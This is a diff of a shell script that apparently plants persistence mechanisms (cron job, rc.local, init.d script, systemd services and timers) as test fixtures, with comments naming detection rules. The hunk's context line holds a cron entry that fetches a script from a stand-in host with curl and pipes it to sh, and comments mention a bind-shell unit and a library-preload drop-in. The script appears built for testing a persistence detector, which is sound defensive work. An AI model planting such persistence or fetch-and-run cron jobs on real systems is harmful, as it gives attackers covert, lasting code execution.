@@ -204,13 +204,13 @@ echo '9 9 * * * nobody curl -s http://192.0.2.7/planted | sh' >/etc/cron.d/plant
 # plant: rc.local | start-rc-local | /etc/rc.local | line 2
 printf '%s\n' '#!/bin/sh' '/usr/bin/true' >/etc/rc.local
 chmod 755 /etc/rc.local
-# plant: init.d | init-script-without-package | /etc/init.d/planted
-printf '%s\n' '#!/bin/sh' 'exec /usr/bin/true' >/etc/init.d/planted
-chmod 755 /etc/init.d/planted
-ln -s ../init.d/planted /etc/rc2.d/S01planted
+# plant: init.d | init-script-without-package | /etc/init.d/planted-init
+printf '%s\n' '#!/bin/sh' 'exec /usr/bin/true' >/etc/init.d/planted-init
+chmod 755 /etc/init.d/planted-init
+ln -s ../init.d/planted-init /etc/rc2.d/S01planted-init
 
 # plant: systemd service | service-program-without-package | planted.service | /usr/local/bin/planted-start
-# plant: systemd timer | start-systemd-foreign | /etc/systemd/system/planted-timed.service | OnCalendar
+# plant: systemd timer | start-systemd-foreign | /etc/systemd/system/planted-timed.service | planted-timed.timer
 # plant: systemd service of a person | user-service-without-package | planted-own.service | alice
 # plant: bind shell in a unit | start-reverse-shell-command | /etc/systemd/system/planted-bind.service
 # plant: a drop-in that loads a library | start-preloads | cron.service
